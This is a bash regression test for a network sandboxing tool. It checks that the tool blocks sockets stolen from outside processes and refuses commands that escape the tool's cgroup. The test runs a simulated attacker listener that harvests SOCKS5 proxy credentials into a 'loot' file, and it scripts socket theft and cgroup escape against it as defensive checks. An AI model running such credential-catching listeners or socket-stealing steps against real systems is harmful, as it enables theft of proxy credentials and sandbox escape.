#!/bin/bash
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
#
# Attacks on `nethook run --handoff` (needs root).  The program under
# nethook (user nobody) gets a socket that was not made in nethook's
# scope, from another nobody process outside it (pidfd_getfd, or
# SCM_RIGHTS), and connects it to a host of its choice: nethook must
# refuse it (EPERM, a block line) and the host must get nothing, least of
# all the SOCKS5 greeting with the proxy's user name and password.  A root
# command that moves itself out of the scope's cgroup gets the same
# answer for the sockets it makes there; with --user it cannot move.

. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/logcheck.sh"
. "$(dirname "$0")/proxies.sh"
nh_require_nethook
nhp_require_peers
nhp_world

fo=$NH_PROGS/nh-foreign
[ -x "$fo" ] || nh_bail "no test program $fo"
pass='hunter2-s3cret'
nhp_user_add "$pass"
user=$NHP_USER
nhp_dante dauth 1082 username
s5auth="socks5://$user:$pass@$NHP_P4:1082"
log=$NH_TMP/log
nobody=(setpriv --reuid nobody --regid nogroup --clear-groups)
# where nobody's processes may write
pub=$NH_TMP/pub
mkdir -p "$pub" && chmod 711 "$NH_TMP" && chmod 1777 "$pub"

# The attacker's host: 192.0.2.10 (the proxy host's address, reachable
# from c without nethook) port 2222, TCP and UDP; whatever arrives is
# written to $NH_TMP/loot.  To a SOCKS5 greeting it answers "user name
# and password, please", as a credential thief would.
loot=$NH_TMP/loot
: >"$loot"
nh_bg lpid nsenter "--net=/run/netns/${NH_ID}p" -- timeout 300 python3 -c '
import select, socket, sys
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind((sys.argv[1], 2222)); t.listen(16)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((sys.argv[1], 2222))
conns = []
out = open(sys.argv[2], "ab", buffering=0)
while True:
	r, _, _ = select.select([t, u] + conns, [], [])
	for s in r:
		if s is t:
			conns.append(t.accept()[0]); out.write(b"[tcp connection]\n")
		elif s is u:
			out.write(b"[udp] " + u.recv(65536) + b"\n")
		else:
			try:
				d = s.recv(65536)
			except OSError:
				d = b""
			if not d:
				conns.remove(s); s.close(); continue
			out.write(d)
			# a SOCKS5 greeting offering user/password: take it
			if d[:1] == b"\x05" and b"\x02" in d[2:2 + d[1]]:
				s.send(b"\x05\x02")
' "$NHP_P4" "$loot"
nh_wait_port p "$NHP_P4" 2222 10 || nh_bail "the attacker's listener did not start"

# hold [-u]: a nobody process outside the scope (in the test's cgroup, not
# nethook's) makes a socket and waits; sets HOLD_PID and HOLD_FD.
hold() {
	local f=$pub/held.$RANDOM
	nh_bg HOLD_BG nsenter "--net=/run/netns/${NH_ID}c" -- "${nobody[@]}" "$fo" hold "$@" "$f"
	nh_wait_file "$f" 10 || nh_bail "the holder did not start"
	read -r HOLD_PID HOLD_FD <"$f"
}

# the block lines of the log
blocks() { awk '$2 == "block"' "$log" 2>/dev/null; }

# steal NAME [-u]: the thief, under nethook as nobody, takes the holder's
# socket and connects it to the attacker's host; refused, nothing arrives.
# Sets OUT (what the thief said).
steal() {
	local name=$1
	shift
	hold "$@"
	: >"$loot"
	rm -f "$log"
	OUT=$(nh_nethook c run -q --handoff --user nobody --proxy "$s5auth" --log "$log" \
		-- "$fo" steal "$HOLD_PID" "$HOLD_FD" "$NHP_P4" 2222 2>&1)
	kill "$HOLD_BG" 2>/dev/null
	nh_is "handoff, $name: connect() refused with EPERM" "$OUT" "errno=EPERM"
	sleep 0.5
	nh_is "handoff, $name: the attacker's host got nothing" "$(cat "$loot")" ""
}

# --- pidfd_getfd: a TCP socket of a process outside the scope ----------
steal "stolen TCP socket"
nh_unlike "handoff, stolen TCP socket: the proxy's user name went nowhere" \
	"$(cat "$loot")" "$user"
line=$(blocks)
nh_is "handoff, stolen TCP socket: one block line, to $NHP_P4:2222, error EPERM" \
	"$(printf '%s\n' "$line" | awk 'NF { n++ } END { print n + 0 }') $(nh_tfield "$line" orig_dst) $(nh_tfield "$line" error)" \
	"1 $NHP_P4:2222 EPERM"
nh_is "handoff, stolen TCP socket: the block line names the thief" \
	"$(nh_tfield "$line" comm) $(nh_tfield "$line" uid)" "nh-foreign $(id -u nobody)"
nh_like "handoff, stolen TCP socket: the block line says why" \
	"$(nhp_detail "$line")" "not made in nethook's scope"

# --- the same, UDP ----------------------------------------------------
steal "stolen UDP socket" -u
nh_is "handoff, stolen UDP socket: block line with proto=udp" \
	"$(nh_tfield "$(blocks)" proto)" udp

# --- SCM_RIGHTS: a socket passed in over a unix socket -----------------
sock=$pub/give.sock
nh_bg gpid nsenter "--net=/run/netns/${NH_ID}c" -- "${nobody[@]}" "$fo" give "$sock"
nh_wait_file "$sock" 10 || nh_bail "the giver did not start"
: >"$loot"
rm -f "$log"
out=$(nh_nethook c run -q --handoff --user nobody --proxy "$s5auth" --log "$log" \
	-- "$fo" take "$sock" "$NHP_P4" 2222 2>&1)
nh_is "handoff, socket passed in (SCM_RIGHTS): connect() refused with EPERM" \
	"$out" "errno=EPERM"
sleep 0.5
nh_is "handoff, socket passed in: the attacker's host got nothing" "$(cat "$loot")" ""
nh_is "handoff, socket passed in: one block line" \
	"$(blocks | awk 'NF { n++ } END { print n + 0 }')" 1

# The limit the README states: without --handoff nothing sees a connect()
# of a socket made outside the scope (the cgroup hooks follow the cgroup a
# socket was made in).  This also shows the attack above is real.
: >"$loot"
out=$(nh_nethook c run -q --user nobody --proxy "$s5auth" \
	-- "$fo" take "$sock" "$NHP_P4" 2222 2>&1)
sleep 0.5
nh_like "no --handoff: a socket passed in is not hooked (README: scope)" \
	"$(printf "%s " "$out" "$(cat "$loot")" | tr "\n" " ")" "connect=ok.*nh-foreign was here"
nh_unlike "no --handoff: still no credentials to the attacker" "$(cat "$loot")" "$user"

# --- a root command that leaves the scope's cgroup -------------------
: >"$loot"
rm -f "$log"
out=$(nh_nethook c run -q --handoff --proxy "$s5auth" --log "$log" \
	-- "$fo" leave "$NH_CG/cgroup.procs" "$NHP_P4" 2222 2>&1)
nh_is "handoff, root command moved out of the scope: its new socket is refused" \
	"$(printf '%s\n' "$out" | tr '\n' ' ')" "leave=ok errno=EPERM "
sleep 0.5
nh_is "handoff, root command moved out: the attacker's host got nothing" \
	"$(cat "$loot")" ""
nh_is "handoff, root command moved out: one block line" \
	"$(blocks | awk 'NF { n++ } END { print n + 0 }')" 1

# --user: the command cannot move itself (cgroup.procs is root's), and its
# connections still go through the proxy (there is no route to the web
# host from c: connect=ok means the proxy carried it)
for mode in "" --handoff; do
	out=$(nh_nethook c run -q $mode --user nobody --proxy "$s5auth" \
		-- "$fo" leave "$NH_CG/cgroup.procs" "$NHP_W4" 80 2>&1)
	nh_like "--user nobody${mode:+ $mode}: cannot leave the scope, still proxied" \
		"$(printf '%s\n' "$out" | tr '\n' ' ')" "^leave=(EACCES|EPERM) connect=ok $"
done

# --- an in-scope socket is not disturbed -------------------------------
rm -f "$log"
out=$(nh_nethook c run -q --handoff --user nobody --proxy "$s5auth" --log "$log" \
	-- curl -sS -m 10 "http://$NHP_W4/who" 2>&1)
nh_is "handoff with credentials: the program's own socket is served" "$out" web
nh_is "handoff with credentials: no block line" "$(blocks)" ""

nh_done
